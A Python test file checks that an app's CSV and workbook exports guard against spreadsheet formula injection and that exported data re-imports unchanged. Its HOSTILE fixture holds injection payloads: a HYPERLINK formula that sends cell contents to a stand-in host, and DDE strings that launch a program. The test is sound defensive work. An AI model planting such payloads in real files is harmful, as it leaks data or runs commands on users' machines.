"""Text a spreadsheet would run as a formula, in every CSV file and workbook the app
writes, and back: nothing runs, and an import of our own export gives back exactly what
was there."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, reject, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from intzaken.exchange import export_csv_folder, export_workbook, plan_import
from intzaken.formula_guard import FORMULA_STARTS, guarded, unguarded
from intzaken.new_database import create_database
from intzaken.services.errors import ValidationError
from intzaken.services.networks import NetworkData, create_network
from intzaken.services.organisation import ContactData, create_contact
from intzaken.store.database import Database, open_database

from .conftest import dump
from .conftest import run_cli as run

HOSTILE = {
    "name": '=HYPERLINK("http://kwaad.example/?"&A1,"Klik hier")',
    "acronym": "+cmd|' /C calc'!A0",
    "scope": "-2+3\nen verder",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "portfolio_code": "'=X",  # text that itself starts with the guard
}


@pytest.fixture
def hostile_file(tmp_path: Path) -> Path:
    path = tmp_path / "gemeente.sqlite"
    create_database(path, "Gemeente Proef").close()
    database = open_database(path)
    with database.sessions.begin() as session:
        contact = create_contact(session, ContactData(name="@Piet", phone="+31 10 123 45 67"))
        create_network(session, NetworkData(**HOSTILE, contact_ids=[contact.id]))
    database.close()
    return path


def _csv_cells(text: str, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


def _nothing_runs(cells: Iterator[str]) -> list[str]:
    """The cells, each checked not to start as a formula would."""
    seen = list(cells)
    assert [c for c in seen if c.startswith(FORMULA_STARTS)] == []
    return seen


@pytest.mark.sqlite_only
def test_every_csv_written_guards_formulas(hostile_file: Path, tmp_path: Path) -> None:
    db = str(hostile_file)
    code, out, err = run("list", "networks", "--format", "csv", "--db", db)
    assert code == 0, err
    listed = _nothing_runs(_csv_cells(out, ","))
    assert "'" + HOSTILE["name"] in listed and "'" + HOSTILE["acronym"] in listed

    assert (
        run("export", "networks", "--format", "csv", "--out", str(tmp_path / "n.csv"), "--db", db)[
            0
        ]
        == 0
    )
    assert run("export", "--format", "csv", "--out", str(tmp_path / "map"), "--db", db)[0] == 0
    assert run("history", "--out", str(tmp_path / "h.csv"), "--db", db)[0] == 0
    written = [tmp_path / "n.csv", tmp_path / "h.csv", *sorted((tmp_path / "map").iterdir())]
    cells = []
    for path in written:
        cells += _nothing_runs(_csv_cells(path.read_text("utf-8-sig"), ";"))
    for text in [*HOSTILE.values(), "@Piet", "+31 10 123 45 67"]:
        assert guarded(text) in cells, text
    assert "''=X" in cells  # one apostrophe more than the text has


@pytest.mark.sqlite_only
def test_every_workbook_written_holds_text_not_formulas(hostile_file: Path, tmp_path: Path) -> None:
    db = str(hostile_file)
    assert run("export", "--out", str(tmp_path / "alles.xlsx"), "--db", db)[0] == 0
    assert run("history", "--out", str(tmp_path / "h.xlsx"), "--db", db)[0] == 0
    # The history of a new record names it by its name; the export holds every field.
    for path, fields in ((tmp_path / "alles.xlsx", HOSTILE), (tmp_path / "h.xlsx", ["name"])):
        book = load_workbook(path)
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert {HOSTILE[field] for field in fields} <= texts


@pytest.mark.sqlite_only
def test_our_own_export_imports_as_nothing_to_do(hostile_file: Path, tmp_path: Path) -> None:
    """The issue's case: "'=X" lost its apostrophe and the contact came back as new."""
    db = str(hostile_file)
    database = open_database(hostile_file)
    before = dump(database)
    for out, fmt in (("n.xlsx", "xlsx"), ("map", "csv")):  # a folder of every sheet
        assert run("export", "--format", fmt, "--out", str(tmp_path / out), "--db", db)[0] == 0
        code, stdout, err = run("import", str(tmp_path / out), "--db", db)
        assert (code, err) == (0, ""), err
        assert "Niets te doen" in stdout
    assert dump(database) == before
    database.close()


@given(st.text())
def test_the_guard_comes_off_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(FORMULA_STARTS)


# Text as the services store it, with what a spreadsheet or our guard reads specially.
SPECIAL = st.sampled_from(
    [
        "'",
        "''",
        "=",
        "+",
        "-",
        "@",
        '"',
        " ",
        "\u00a0",
        ";",
        ",",
        "0",
        "1,5",
        "ja",
        "É",
        "東京",
        "é",
    ]
)
PRINTABLE = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cf", "Co", "Zl", "Zp"))
ONE_LINE = st.lists(SPECIAL | st.text(PRINTABLE, max_size=3), max_size=8).map("".join)
LINES = st.lists(
    SPECIAL | st.text(PRINTABLE, max_size=3) | st.sampled_from(["\t", "\n", "\r\n", "\r"]),
    max_size=10,
).map("".join)
# Names that other cells name in a list ("A; B"): a ";" in them is not round-tripped.
NAME = ONE_LINE.filter(lambda text: ";" not in text)


@pytest.fixture
def shared_database(tmp_path: Path) -> Iterator[Database]:
    path = tmp_path / "rond.sqlite"
    create_database(path, "Gemeente Proef").close()
    database = open_database(path)
    yield database
    database.close()


@pytest.mark.sqlite_only
@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.filter_too_much,
        HealthCheck.too_slow,
    ],
)
@given(
    contact=st.tuples(NAME, ONE_LINE, ONE_LINE, ONE_LINE),
    network=st.tuples(NAME, ONE_LINE, LINES, LINES),
    themes=st.lists(ONE_LINE, max_size=3),
)
def test_export_then_import_gives_back_exactly_what_was_there(
    shared_database: Database,
    tmp_path: Path,
    contact: tuple[str, str, str, str],
    network: tuple[str, str, str, str],
    themes: list[str],
) -> None:
    """Each example in a transaction that is rolled back: nothing of it stays."""
    with shared_database.sessions() as session:
        try:
            person = create_contact(
                session,
                ContactData(
                    name=contact[0],
                    organisation=contact[1],
                    function=contact[2],
                    phone=contact[3][:50],
                ),
            )
            create_network(
                session,
                NetworkData(
                    name=network[0],
                    acronym=network[1][:40],
                    scope=network[2],
                    notes=network[3],
                    themes=themes,
                    contact_ids=[person.id],
                ),
            )
        except ValidationError:
            reject()  # an empty name, a theme with ";": what the services refuse
        for path in (tmp_path / "rond.xlsx", tmp_path / "rond"):
            if path.suffix:
                export_workbook(session, path, ["networks"])
            else:
                export_csv_folder(session, path, ["networks"])
            plan = plan_import(session, path)
            assert plan.ok, [str(p) for p in plan.problems]
            counts = {
                name: (c.new, c.changed, c.unchanged)
                for name, c in plan.counts.items()
                if c.new or c.changed or c.unchanged
            }
            assert counts == {"contacts": (0, 0, 1), "networks": (0, 0, 1)}, path.name
        session.rollback()


def test_a_theme_with_a_semicolon_is_refused(shared_database: Database) -> None:
    """An export lists themes in one cell separated by ";": "havens;energie" would come
    back as two themes."""
    from .test_services_validation import _refused

    refused = _refused(
        shared_database,
        lambda s: create_network(
            s, NetworkData(name="Havensteden", themes=["havens;energie", "water"])
        ),
    )
    assert str(refused) == (
        "Thema's: 'havens;energie' bevat een puntkomma; die scheidt "
        "thema's. Maak er twee thema's van."
    )
